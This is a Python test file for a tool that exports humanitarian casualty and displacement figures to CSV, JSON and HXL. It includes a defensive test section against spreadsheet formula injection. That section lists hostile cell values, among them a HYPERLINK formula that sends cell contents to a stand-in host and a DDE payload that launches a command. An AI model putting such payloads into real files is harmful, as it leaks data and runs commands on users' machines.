"""Exports: CSV, JSON Lines, JSON and HXL-tagged CSV, from figures and from the tidy frame.

The figures are built by hand from sentences of the seed articles (and one household
figure in the style of OCHA updates), so these tests do not depend on the engine.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tracker import extract
from tracker.extraction.engine import extract_document
from tracker.output import export
from tracker.output.schema import INDICATOR_HXL, NAMES, from_row, to_frame
from tracker.records import INDICATORS, Document, Figure, figure_id, part_reference

SEEDS = Path(__file__).resolve().parent.parent / "seeds"


def figure(quote: str, wording: str, **fields) -> Figure:
    start = quote.index(wording)
    base = dict(
        value=0, low=None, high=None, qualifier="exact", unit="people", people=None,
        quote=quote, start=start, end=start + len(wording), quote_start=0,
    )
    return Figure(**(base | fields))


FIGURES: tuple[Figure, ...] = (
    figure(
        "BEIRUT — Syrian government troops are pushing into a strategic town in the country’s last "
        "rebel-held region, local witnesses and monitors said Tuesday, another milestone in a military "
        "campaign that has trapped about 3 million civilians in the area.",
        "about 3 million",
        indicator="trapped", value=3_000_000, qualifier="approx", unit="civilians", people=3_000_000,
        date=dt.date(2019, 8, 20), date_precision="day", published=dt.date(2019, 8, 20),
        location="Idlib", country="Syria", iso3="SYR", document="seeds/000_b12168d2a7b52039.txt",
    ),
    figure(
        'Hundreds of thousands of people have fled Idlib in recent weeks, according to "Reuters", '
        "and aid groups say camps are full.",
        "Hundreds of thousands",
        indicator="displaced", value=200_000, low=200_000, qualifier="at_least", people=200_000,
        date=dt.date(2020, 1, 26), date_precision="week", period_start=dt.date(2020, 1, 1),
        published=dt.date(2020, 1, 26), source="Reuters", location="Idlib",
        document="feed.jsonl:2", title="Syrians flee, again", url="https://example.org/a?b=1&c=2",
        outlet="Reuters",
    ),
    figure(
        "The offensive has led to the displacement of nearly one million people in the region, "
        "the United Nations said.",
        "nearly one million",
        indicator="displaced", value=1_000_000, high=1_000_000, qualifier="at_most", people=1_000_000,
        source="United Nations", location="Idlib", document="seeds/002_73d83023f4218d2a.txt",
    ),
    figure(
        "Between 1,200 and 1,500 families arrived in Azaz camps, OCHA said on Friday.",
        "Between 1,200 and 1,500",
        indicator="displaced", value=1_200, low=1_200, high=1_500, qualifier="range", unit="families",
        people=6_000, date=dt.date(2020, 2, 14), date_precision="day", published=dt.date(2020, 2, 17),
        source="OCHA", location="Azaz", admin1="Aleppo", country="Syria", iso3="SYR", document="ocha.txt",
    ),
)


def written(fmt: str, figures=FIGURES) -> str:
    out = io.StringIO()
    export.write(figures, fmt, out)
    return out.getvalue()


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_frame_bytes_equal_the_streamed_export(fmt):
    """The dashboard's downloads and the CLI's files are the same bytes for the same figures."""
    assert export.frame_bytes(to_frame(FIGURES), fmt) == written(fmt).encode("utf-8")


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_no_figures_still_give_a_well_formed_file(fmt):
    text = written(fmt, ())
    assert export.frame_bytes(to_frame([]), fmt) == text.encode("utf-8")
    if fmt == "json":
        assert json.loads(text) == []
    elif fmt == "jsonl":
        assert text == ""
    else:
        assert list(csv.reader(io.StringIO(text)))[0][:2] == ["document", "indicator"]


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_write_returns_the_rows_written(fmt):
    assert export.write(iter(FIGURES), fmt, io.StringIO()) == len(FIGURES)


def test_csv_columns_follow_the_schema_and_cells_are_plain():
    rows = list(csv.DictReader(io.StringIO(written("csv"))))
    assert tuple(rows[0]) == NAMES
    trapped, fled, nearly, families = rows
    assert trapped["date"] == "2019-08-20", "dates as ISO YYYY-MM-DD"
    assert trapped["source"] == "" and trapped["high"] == "", "missing values are empty cells"
    assert trapped["quote"] == FIGURES[0].quote, "the quote keeps its dash and typographic apostrophe"
    assert fled["quote"] == FIGURES[1].quote, "commas and double quotes in a quote survive CSV quoting"
    assert fled["url"] == "https://example.org/a?b=1&c=2"
    assert nearly["date"] == "" and nearly["published"] == "", "an undated figure is kept, with empty dates"
    assert (families["value"], families["low"], families["high"], families["people"]) == ("1200", "1200", "1500", "6000")


def test_jsonl_and_json_hold_the_same_records():
    lines = [json.loads(line) for line in written("jsonl").splitlines()]
    assert json.loads(written("json")) == lines
    assert [list(record) for record in lines] == [list(NAMES)] * len(FIGURES)
    assert lines[2]["date"] is None and lines[0]["date"] == "2019-08-20"
    assert lines[3]["value"] == 1200 and lines[3]["people"] == 6000


@pytest.mark.parametrize("fmt", ["jsonl", "json"])
def test_json_records_rebuild_the_figures(fmt):
    """An export read back gives the same figures (the offset of the quote is not exported)."""
    text = written(fmt)
    records = json.loads(text) if fmt == "json" else [json.loads(line) for line in text.splitlines()]
    assert [from_row(r) for r in records] == [dataclasses.replace(f, quote_start=0) for f in FIGURES]


def test_hxl_puts_each_indicator_count_in_people_in_its_own_tagged_column():
    header, tags, *rows = list(csv.reader(io.StringIO(written("hxl"))))
    assert len(header) == len(tags) and all(tag.startswith("#") for tag in tags)
    column = {indicator: header.index(indicator) for indicator in INDICATOR_HXL}
    assert {indicator: tags[i] for indicator, i in column.items()} == INDICATOR_HXL
    assert tags[header.index("quote")] == "#description" and tags[header.index("date")] == "#date"
    # only the per-indicator columns count people (or homes): nothing else carries their hashtags
    counting = ("#affected", "#inneed", "#impact")
    assert [t for t in tags if t.startswith(counting)] == list(INDICATOR_HXL.values())
    for fig, row in zip(FIGURES, rows, strict=True):
        filled = {indicator: row[i] for indicator, i in column.items() if row[i]}
        assert filled == {fig.indicator: str(fig.people if fig.people is not None else fig.value)}, fig.quote
        assert row[header.index("value")] == str(fig.value)


def test_hxl_families_are_counted_in_people_under_their_indicator():
    (fig,) = extract("About 900 families were displaced from Hama.", published="2020-01-06")
    out = io.StringIO()
    export.write([fig], "hxl", out)
    header, tags, row = list(csv.reader(io.StringIO(out.getvalue())))
    assert row[header.index("displaced")] == "4500" and tags[header.index("displaced")] == "#affected+idps"
    assert (row[header.index("value")], row[header.index("unit")]) == ("900", "families")


# Reporting in the style of wires and OCHA updates, each figure with a known subdivision,
# and the ISO 3166-2 code an HDX user joins it on.
ADMIN1_CODES: tuple[tuple[str, str], ...] = (
    ("At least 14 civilians were killed in air strikes on Idlib province on Monday, rescuers said.", "SY-ID"),
    ("More than 6,000 families have fled their homes in Deir ez-Zor since Friday, OCHA said.", "SY-DY"),
    ("Some 2,300 people were displaced by fighting near Goma in North Kivu, the UN said on Tuesday.", "CD-NK"),
    ("Shelling killed five people in the city of Kharkiv overnight, the regional governor said.", "UA-63"),
    ("Floods displaced about 12,000 people in Borno state last week, the emergency agency said.", "NG-BO"),
)


@pytest.mark.parametrize(("sentence", "code"), ADMIN1_CODES)
def test_figures_carry_the_iso_3166_2_code_of_their_subdivision(sentence, code):
    figures = extract(sentence, published="2024-09-03")
    assert figures and {f.admin1_code for f in figures} == {code}, (sentence, [(f.location, f.admin1) for f in figures])


def test_a_place_in_no_known_subdivision_gets_no_code():
    """A wrong code is worse than none for a join: a country alone, or a subdivision that is
    not one in ISO 3166-2, gives an empty admin1_code."""
    for sentence in (
        "About 3,000 people were displaced across Syria last month, the UN said.",
        "At least 40 people were killed in the Gaza Strip on Sunday, the health ministry said.",
    ):
        assert [f.admin1_code for f in extract(sentence, published="2024-09-03")] == [None], sentence


def test_every_row_has_its_own_id_the_same_in_every_run():
    text = (
        "At least 30 people were killed and 120 injured in the blast, the ministry said. "
        "Another 30 people were killed in a second attack, police said. "
        "Some 4,000 families have been displaced, and 4,000 people are trapped."
    )
    doc = Document(id="wire.txt", text=text, published=dt.date(2024, 9, 3))
    first, again = extract_document(doc), extract_document(doc)
    ids = [f.id for f in first]
    assert len(first) >= 5 and len(set(ids)) == len(ids) and all(ids), [(f.indicator, f.value) for f in first]
    assert ids == [f.id for f in again]
    other = extract_document(dataclasses.replace(doc, id="wire-2.txt"))
    assert not set(ids) & {f.id for f in other}, "the same text in another document gets other ids"


def test_hxl_tags_the_figure_id_the_document_and_the_place_codes_apart():
    _, tags, *_ = list(csv.reader(io.StringIO(written("hxl"))))
    tag = dict(zip(export.HXL_NAMES, tags, strict=True))
    assert (tag["id"], tag["document"], tag["date_precision"]) == ("#meta+id", "#meta+document", "#meta+precision")
    assert (tag["admin1_code"], tag["lat"], tag["lon"]) == ("#adm1+code", "#geo+lat", "#geo+lon")
    assert len(set(tags)) == len(tags), "each column its own hashtag"


def test_hxl_export_validates_with_libhxl(tmp_path):
    """HXL 1.1 as HDX reads it: libhxl's validator, with its built-in schema, finds no issue
    in an export of the seeds' figures and of figures with ids, ISO 3166-2 codes and coordinates."""
    hxl = pytest.importorskip("hxl", reason="libhxl is not installed (pip install 'tracker[test]')")
    placed = dataclasses.replace(
        FIGURES[3], id="a1b2c3d4e5f60718", admin1_code="SY-HL", lat=36.5847, lon=36.9996
    )
    path = tmp_path / "figures-hxl.csv"
    seeds = [f for p in sorted(SEEDS.glob("*.txt")) for f in extract_document(
        Document(id=p.name, text=p.read_text(encoding="utf-8"), published=dt.date(2019, 8, 20)))]
    path.write_text(written("hxl", (*FIGURES, placed, *seeds)), encoding="utf-8")
    report = hxl.validate(hxl.data(str(path), hxl.InputOptions(allow_local=True)))
    assert report["is_valid"], json.dumps(report["issues"], indent=1)[:2000]
    assert report["stats"]["total"] == 0, report["stats"]


def test_json_streams_element_by_element():
    """Each figure is written before the next one is asked for: no list of all rows is built."""
    out = io.StringIO()
    seen: list[int] = []

    def figures() -> Iterator[Figure]:
        for fig in FIGURES:
            seen.append(out.getvalue().count('"indicator"'))
            yield fig

    export.write(figures(), "json", out)
    assert seen == [0, 1, 2, 3]


def failing_after(n: int) -> Iterator[Figure]:
    yield from FIGURES[:n]
    raise RuntimeError("engine crashed half-way")


def test_write_file_replaces_the_file_when_complete(tmp_path: Path):
    path = tmp_path / "figures.csv"
    path.write_text("old\n")
    assert export.write_file(FIGURES, "csv", path) == len(FIGURES)
    assert path.read_text(encoding="utf-8") == written("csv")
    assert [p.name for p in tmp_path.iterdir()] == ["figures.csv"], "no temporary file is left behind"


def test_an_interrupted_write_leaves_no_file(tmp_path: Path):
    path = tmp_path / "figures.jsonl"
    with pytest.raises(RuntimeError):
        export.write_file(failing_after(2), "jsonl", path)
    assert list(tmp_path.iterdir()) == [], "neither a half-written file nor a temporary file"


def test_an_interrupted_write_keeps_the_previous_file(tmp_path: Path):
    path = tmp_path / "figures.json"
    export.write_file(FIGURES[:1], "json", path)
    before = path.read_bytes()
    with pytest.raises(RuntimeError):
        export.write_file(failing_after(3), "json", path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["figures.json"]


def test_write_file_keeps_the_permissions_of_the_file_it_replaces(tmp_path: Path):
    path = tmp_path / "figures.csv"
    path.write_text("old\n")
    path.chmod(0o640)
    export.write_file(FIGURES, "csv", path)
    assert path.stat().st_mode & 0o777 == 0o640


def test_unknown_format_is_a_clear_error():
    with pytest.raises(ValueError, match="unknown format 'xlsx': choose one of csv, jsonl, json, hxl"):
        export.write(FIGURES, "xlsx", io.StringIO())


@pytest.mark.parametrize(
    ("name", "fmt"),
    [("out.csv", "csv"), ("out.JSONL", "jsonl"), ("out.ndjson", "jsonl"), ("out.json", "json"), ("out.txt", "csv")],
)
def test_format_follows_the_file_name(name, fmt):
    assert export.format_for(name) == fmt, name


def test_frame_bytes_take_a_filtered_frame_in_any_column_order():
    """The dashboard hands over a filtered, re-ordered view; the download keeps schema order."""
    frame = to_frame(FIGURES)
    view = frame[frame["indicator"] == "displaced"][list(reversed(frame.columns))]
    assert export.frame_bytes(view, "csv") == written("csv", FIGURES[1:]).encode("utf-8")


def test_csv_read_back_with_pandas_gives_the_tidy_frame():
    """An analyst's `pd.read_csv` of the export, cast to the schema, is the frame the dashboard uses."""
    import pandas as pd

    from tracker.output.schema import conform

    frame = pd.read_csv(io.StringIO(written("csv")), dtype=str, keep_default_na=False, na_values=[""])
    pd.testing.assert_frame_equal(conform(frame), to_frame(FIGURES))


@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\x85"])
def test_a_jsonl_record_stays_on_one_line_whatever_the_quote_holds(separator):
    """Scraped text carries Unicode line separators; each figure is still one line."""
    quote = f"Some 5,000 people fled Atareb.{separator}Aid groups said camps were full."
    fig = figure(quote, "Some 5,000", indicator="displaced", value=5000, qualifier="approx", people=5000)
    text = written("jsonl", (fig, fig))
    assert len(text.splitlines()) == 2, repr(text)
    assert [json.loads(line)["quote"] for line in text.splitlines()] == [quote, quote]
    assert json.loads(written("json", (fig,)))[0]["quote"] == quote


def test_a_date_the_frame_cannot_hold_becomes_empty_not_a_crash():
    import datetime as dt

    import pandas as pd

    from tracker.output.schema import conform

    frame = conform(pd.DataFrame({"date": [dt.date(2263, 1, 1), dt.date(2020, 1, 26), None]}))
    assert frame["date"].isna().tolist() == [True, False, True]
    assert frame["date"].iloc[1] == pd.Timestamp("2020-01-26")


# --- issue 18: a cell a spreadsheet would run ---------------------------------------------

# Text from the articles that Excel, LibreOffice or Google Sheets would take for a formula.
FORMULAS = ['=HYPERLINK("http://x/"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def hostile_figure(text: str) -> Figure:
    quote = text + " More than 500 civilians were killed."
    return figure(
        quote, "More than 500",
        indicator="killed", value=500, low=500, qualifier="at_least", people=500, unit="civilians",
        document=text, title=text, outlet=text, source=text,
    )


def spreadsheet_rows(data: str, fmt: str) -> list[dict[str, str]]:
    lines = io.StringIO(data, newline="")
    if fmt == "hxl":
        reader = csv.reader(lines)
        names, _tags = next(reader), next(reader)
        return [dict(zip(names, row)) for row in reader]
    return list(csv.DictReader(lines))


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("fmt", ["csv", "hxl"])
def test_a_cell_that_would_run_as_a_formula_gets_a_leading_apostrophe(text, fmt):
    f = hostile_figure(text)
    for data in (written(fmt, [f]), export.frame_bytes(to_frame([f]), fmt).decode("utf-8")):  # file, dashboard download
        (row,) = spreadsheet_rows(data, fmt)
        for name in ("document", "title", "outlet", "source", "quote"):
            assert row[name] == "'" + getattr(f, name), (fmt, name, row[name])
        assert (row["value"], row["people"]) == ("500", "500"), "numbers stay numbers"
        assert row["killed"] == "500" if fmt == "hxl" else True


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("fmt", ["jsonl", "json"])
def test_json_formats_keep_every_cell_exact(text, fmt):
    f = hostile_figure(text)
    out = written(fmt, [f])
    records = [json.loads(line) for line in out.splitlines()] if fmt == "jsonl" else json.loads(out)
    assert [from_row(r) for r in records] == [f]


def test_ordinary_cells_are_left_alone():
    data = written("csv")
    assert "'" + FIGURES[0].quote[:10] not in data
    assert [r["quote"] for r in csv.DictReader(io.StringIO(data))] == [f.quote for f in FIGURES]


# --- the indicators beside deaths, and parts of a breakdown ------------------------------

HOMES = figure(
    "The floods destroyed 1,250 homes in Sindh province, the disaster authority said.",
    "1,250",
    indicator="housing_destroyed", value=1_250, unit="homes", people=None, document="ndma.txt",
)
TOTAL = figure(
    "At least 1,660 people (1,347 men, 273 women and 40 children) were killed, the ministry said.",
    "At least 1,660",
    indicator="killed", value=1_660, low=1_660, qualifier="at_least", people=1_660, document="moh.txt",
    id=figure_id("moh.txt", 0, 14, "killed", "people"),
)
PART = figure(
    TOTAL.quote, "273", indicator="killed", value=273, unit="women", people=273, document="moh.txt",
    part_of=part_reference(TOTAL),
)


def test_every_indicator_has_an_hxl_column_of_its_own():
    assert set(INDICATOR_HXL) == set(INDICATORS)
    assert len(set(INDICATOR_HXL.values())) == len(INDICATOR_HXL), "two indicators share a hashtag"


@pytest.mark.parametrize(
    ("indicator", "tag"),
    [
        ("missing", "#affected+missing"),
        ("returned", "#affected+returnees"),
        ("in_need", "#inneed"),
        ("affected", "#affected+total"),
        ("housing_destroyed", "#impact+shelter+num"),
    ],
)
def test_new_indicators_take_their_hxl_hashtag(indicator, tag):
    one = dataclasses.replace(HOMES, indicator=indicator)
    header, tags, row = list(csv.reader(io.StringIO(written("hxl", [one]))))
    at = tags.index(tag)
    assert header[at] == indicator and row[at] == "1250", (header[at], row[at])


def test_homes_destroyed_are_counted_as_homes_with_no_people():
    header, tags, row = list(csv.reader(io.StringIO(written("hxl", [HOMES]))))
    assert row[header.index("people")] == "", "a home counted is no person"
    assert row[tags.index("#impact+shelter+num")] == "1250"


def test_part_of_comes_after_the_older_columns_and_names_the_total_in_every_format():
    part = PART
    assert NAMES[-2:] == ("part_of", "page")  # page (tests/test_inputs_pdf.py) came after it
    header, *rows = list(csv.reader(io.StringIO(written("csv", [TOTAL, part]))))
    at = header.index("part_of")
    assert header[at:] == ["part_of", "page"]
    assert [r[at] for r in rows] == ["", TOTAL.id], rows
    records = [json.loads(line) for line in written("jsonl", [TOTAL, part]).splitlines()]
    assert [r["part_of"] for r in records] == [None, TOTAL.id]
    assert [from_row(r) for r in records] == [TOTAL, part]
    frame = to_frame([TOTAL, part])
    assert frame["part_of"].isna().tolist() == [True, False]
